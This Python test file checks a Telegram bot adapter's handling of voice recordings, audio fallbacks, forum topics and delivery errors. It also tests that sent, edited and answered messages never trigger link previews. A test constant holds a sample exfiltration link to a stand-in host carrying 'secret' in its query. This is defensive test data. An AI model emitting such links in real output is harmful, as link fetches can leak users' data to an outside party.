"""Recordings on their way out, and that nothing that the bot shows makes Telegram fetch a link."""

from dataclasses import replace

import pytest

from adapters.telegram.messenger import TelegramMessenger
from bot.core.errors import DeliveryError, DeliveryKind
from bot.core.inbound import Invoked, Pressed
from bot.core.ports import Answer
from bot.core.sound import Voice
from tests.adapters.telegram.talking import REPORT, STOP, event_at, page_of, place_of
from tests.fakes.recordings import silence
from tests.fakes.telegram.faults import Drop, Respond
from tests.fakes.telegram.model import User
from tests.fakes.telegram.server import FakeTelegram

VOICE = Voice(content=silence(0.1), media_type="audio/ogg", name="answer.ogg", duration_s=2.6)
EXFILTRATION = "[x](https://evil.example/?q=secret) https://evil.example/2"


async def test_ogg_is_a_voice_message_that_replies_with_its_length(
    fake: FakeTelegram, messenger: TelegramMessenger, ann: User
) -> None:
    asked = fake.say(ann.id, ann.id, "say it")
    sent = await messenger.send_voice(place_of(fake, ann), VOICE, key="k", reply_to=str(asked.id))
    (message,) = fake.bot_messages(ann.id)
    (recording,) = message.media
    (call,) = fake.calls_of("sendVoice")

    assert (sent, message.text, message.reply_to_id, message.silent) == (str(message.id), "", asked.id, False)
    assert (recording.kind, recording.duration_s, recording.data) == ("voice", 3, VOICE.content)
    assert call.params.keys() == {"chat_id", "voice", "duration", "reply_parameters"}


async def test_a_voice_message_goes_into_its_topic_and_leaves_one_that_is_gone(
    fake: FakeTelegram, messenger: TelegramMessenger, ann: User
) -> None:
    forum = fake.add_group(forum=True, topics=["One"], members=[ann])
    (topic,) = forum.topics
    await messenger.send_voice(place_of(fake, forum, topic), VOICE, key="k")
    fake.delete_topic(forum, topic)
    await messenger.send_voice(place_of(fake, forum, topic), VOICE, key="k2")

    assert [message.thread_id for message in fake.bot_messages(forum.id)] == [topic, None]


@pytest.mark.parametrize(
    ("media_type", "name", "method"),
    [
        ("audio/mpeg", "a.mp3", "sendAudio"),
        ("audio/mp4", "a.m4a", "sendAudio"),
        ("audio/wav", "a.wav", "sendDocument"),
        ("audio/ogg", "vorbis.ogg", "sendDocument"),
    ],
)
async def test_what_is_no_ogg_with_opus_is_music_or_a_file(
    fake: FakeTelegram, messenger: TelegramMessenger, ann: User, media_type: str, name: str, method: str
) -> None:
    voice = replace(VOICE, content=b"OggS but no Opus", media_type=media_type, name=name)
    await messenger.send_voice(place_of(fake, ann), voice, key="k")
    (message,) = fake.bot_messages(ann.id)

    assert [call.status for call in fake.calls_of(method)] == [200]
    assert (message.media[0].name, message.media[0].data) == (name, b"OggS but no Opus")


async def test_who_takes_no_voice_messages_gets_a_file(
    fake: FakeTelegram, messenger: TelegramMessenger, ann: User
) -> None:
    group = fake.add_group(members=[ann])
    for place in (place_of(fake, ann), place_of(fake, group)):
        fake.forbid_voice(int(place.chat))
        await messenger.send_voice(place, VOICE, key="k")
    messages = [*fake.bot_messages(ann.id), *fake.bot_messages(group.id)]

    assert [(message.media[0].kind, message.media[0].name) for message in messages] == [("document", "answer.ogg")] * 2


async def test_a_refusal_of_another_kind_is_one(fake: FakeTelegram, messenger: TelegramMessenger, ann: User) -> None:
    place = place_of(fake, ann)
    body = b'{"ok":false,"error_code":400,"description":"Bad Request: file must be non-empty"}'
    fake.faults.add("sendVoice", Respond(status=400, body=body))
    fake.faults.add("sendVoice", Drop(after=True))
    kinds = []
    for _ in range(2):
        with pytest.raises(DeliveryError) as caught:
            await messenger.send_voice(place, VOICE, key="k")
        kinds.append(caught.value.kind)

    assert kinds == [DeliveryKind.INVALID, DeliveryKind.UNKNOWN_AFTER_SEND]
    assert fake.calls_of("sendDocument") == []


async def test_voice_messages_are_told_as_possible(fake: FakeTelegram, messenger: TelegramMessenger, ann: User) -> None:
    forum = fake.add_group(forum=True, topics=["One"])
    places = [place_of(fake, ann), place_of(fake, forum), place_of(fake, forum, 2)]

    assert [messenger.capabilities(place).voice for place in places] == [True] * 3


async def test_nothing_that_is_shown_makes_telegram_fetch_a_link(
    fake: FakeTelegram, messenger: TelegramMessenger, ann: User
) -> None:
    place, page = place_of(fake, ann), page_of(EXFILTRATION)
    for plain in (False, True):
        sent = await messenger.send(place, page, key="k", plain=plain, buttons=(STOP,))
        await messenger.edit(place, sent, page_of(f"{EXFILTRATION}3"), plain=plain)
    await messenger.send(place, page, key="f", file=REPORT)
    answer = Answer(text=EXFILTRATION, replace=True)
    await messenger.answer(event_at(place, Invoked(name="x", message_id=None)), answer)
    await messenger.answer(event_at(place, Pressed(line="x", message_id=sent)), answer)

    assert len(fake.bot_messages(ann.id)) == 4
    assert fake.previews == ()
